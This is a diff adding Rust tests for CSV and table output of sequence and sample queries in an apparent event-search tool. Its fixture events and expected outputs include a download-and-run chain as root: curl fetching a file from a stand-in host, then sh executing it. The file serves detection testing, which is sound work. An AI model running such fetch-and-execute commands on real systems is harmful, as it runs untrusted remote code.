@@ -1,0 +1,135 @@
+//! Regressions from a fresh user's report: CSV and table output for
+//! sequence and sample queries.
+
+mod common;
+
+use std::path::Path;
+
+use common::*;
+
+fn scratch() -> tempfile::TempDir {
+    tempfile::tempdir().expect("tempdir")
+}
+
+/// Five events on two hosts: on h1 a download, a connection and a run of
+/// what was downloaded; on h2 a listing and a connection.
+const EVENTS: &str = "\
+{\"@timestamp\":\"2026-01-01T00:00:01Z\",\"event\":{\"category\":\"process\"},\"host\":{\"id\":\"h1\",\"name\":\"alpha\"},\"user\":{\"name\":\"root\"},\"process\":{\"name\":\"curl\",\"command_line\":\"curl -o /tmp/x http://e.test/x\"}}
+{\"@timestamp\":\"2026-01-01T00:00:02Z\",\"event\":{\"category\":\"process\"},\"host\":{\"id\":\"h2\",\"name\":\"beta\"},\"user\":{\"name\":\"bob\"},\"process\":{\"name\":\"ls\",\"command_line\":\"ls -l\"}}
+{\"@timestamp\":\"2026-01-01T00:00:03Z\",\"event\":{\"category\":\"network\"},\"host\":{\"id\":\"h1\",\"name\":\"alpha\"},\"user\":{\"name\":\"root\"},\"process\":{\"name\":\"curl\"}}
+{\"@timestamp\":\"2026-01-01T00:00:04Z\",\"event\":{\"category\":\"process\"},\"host\":{\"id\":\"h1\",\"name\":\"alpha\"},\"user\":{\"name\":\"root\"},\"process\":{\"name\":\"sh\",\"command_line\":\"sh /tmp/x\"}}
+{\"@timestamp\":\"2026-01-01T00:00:05Z\",\"event\":{\"category\":\"network\"},\"host\":{\"id\":\"h2\",\"name\":\"beta\"},\"user\":{\"name\":\"bob\"},\"process\":{\"name\":\"ssh\"}}
+";
+
+/// `talon query QUERY events.ndjson ARGS` in `dir`, which must succeed;
+/// its stdout.
+fn query(dir: &Path, eql: &str, args: &[&str]) -> String {
+    let mut c = talon();
+    c.current_dir(dir)
+        .args(["query", eql, "events.ndjson"])
+        .args(args);
+    let out = run(c);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    stdout(&out)
+}
+
+#[test]
+fn sequences_and_samples_are_written_as_csv_one_row_per_event() {
+    let dir = scratch();
+    let d = dir.path();
+    std::fs::write(d.join("events.ndjson"), EVENTS).unwrap();
+    let header = "@timestamp,event.category,host.name,user.name,process.name,\
+                  process.command_line,source";
+
+    let csv = query(
+        d,
+        "sequence by host.id [process where process.name == \"curl\"] [process where true]",
+        &["--format", "csv"],
+    );
+    assert_eq!(
+        csv,
+        format!(
+            "sequence,join_keys,{header}\n\
+             1,h1,2026-01-01T00:00:01.000Z,process,alpha,root,curl,curl -o /tmp/x http://e.test/x,events.ndjson:1\n\
+             1,h1,2026-01-01T00:00:04.000Z,process,alpha,root,sh,sh /tmp/x,events.ndjson:4\n"
+        )
+    );
+
+    // Two join keys share a cell; a missing event is a row of its own.
+    let csv = query(
+        d,
+        "sequence by host.id, user.name with maxspan=1m \
+         [process where process.name == \"curl\"] ![file where true] [process where true]",
+        &["--format", "csv"],
+    );
+    assert_eq!(
+        csv,
+        format!(
+            "sequence,join_keys,{header}\n\
+             1,\"h1, root\",2026-01-01T00:00:01.000Z,process,alpha,root,curl,curl -o /tmp/x http://e.test/x,events.ndjson:1\n\
+             1,\"h1, root\",,,,,,,(missing event)\n\
+             1,\"h1, root\",2026-01-01T00:00:04.000Z,process,alpha,root,sh,sh /tmp/x,events.ndjson:4\n"
+        )
+    );
+
+    let csv = query(
+        d,
+        "sample by host.id [process where true] [network where true]",
+        &["--format", "csv"],
+    );
+    assert_eq!(
+        csv,
+        format!(
+            "sample,join_keys,{header}\n\
+             1,h1,2026-01-01T00:00:01.000Z,process,alpha,root,curl,curl -o /tmp/x http://e.test/x,events.ndjson:1\n\
+             1,h1,2026-01-01T00:00:03.000Z,network,alpha,root,curl,,events.ndjson:3\n\
+             2,h2,2026-01-01T00:00:02.000Z,process,beta,bob,ls,ls -l,events.ndjson:2\n\
+             2,h2,2026-01-01T00:00:05.000Z,network,beta,bob,ssh,,events.ndjson:5\n"
+        )
+    );
+}
+
+#[test]
+fn sequences_and_samples_are_written_as_a_table_one_row_per_event() {
+    let dir = scratch();
+    let d = dir.path();
+    std::fs::write(d.join("events.ndjson"), EVENTS).unwrap();
+    let table = query(
+        d,
+        "sample by host.id [process where true] [network where true]",
+        &["--format", "table"],
+    );
+    assert_eq!(
+        table,
+        "SAMPLE  JOIN KEYS  TIME                      CATEGORY   HOST             USER       COMMAND\n\
+         1       h1         2026-01-01T00:00:01.000Z  process    alpha            root       curl -o /tmp/x http://e.test/x\n\
+         1       h1         2026-01-01T00:00:03.000Z  network    alpha            root       curl\n\
+         2       h2         2026-01-01T00:00:02.000Z  process    beta             bob        ls -l\n\
+         2       h2         2026-01-01T00:00:05.000Z  network    beta             bob        ssh\n"
+    );
+    let table = query(
+        d,
+        "sequence by host.id [process where process.name == \"curl\"] [process where true]",
+        &["--format", "table"],
+    );
+    assert_eq!(
+        table,
+        "SEQUENCE  JOIN KEYS  TIME                      CATEGORY   HOST             USER       COMMAND\n\
+         1         h1         2026-01-01T00:00:01.000Z  process    alpha            root       curl -o /tmp/x http://e.test/x\n\
+         1         h1         2026-01-01T00:00:04.000Z  process    alpha            root       sh /tmp/x\n"
+    );
+    let table = query(
+        d,
+        "sequence [process where false] [process where true]",
+        &["--format", "table"],
+    );
+    assert_eq!(table, "(no matching sequences)\n");
+    // An event search's table is as it was.
+    let table = query(d, "network where true", &["--format", "table"]);
+    assert_eq!(
+        table,
+        "TIME                      CATEGORY   HOST             USER       COMMAND\n\
+         2026-01-01T00:00:03.000Z  network    alpha            root       curl\n\
+         2026-01-01T00:00:05.000Z  network    beta             bob        ssh\n"
+    );
+}
